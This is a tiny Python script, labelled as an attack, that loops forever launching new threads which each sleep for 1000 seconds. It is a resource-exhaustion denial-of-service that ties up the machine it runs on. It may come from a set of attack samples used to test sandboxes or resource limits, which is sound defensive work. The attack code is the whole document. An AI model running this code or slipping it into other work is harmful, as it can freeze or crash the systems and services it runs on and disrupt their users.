# Starts threads without end.
# %% attack
import os
import threading, time

while True:
    threading.Thread(target=time.sleep, args=(1000,)).start()
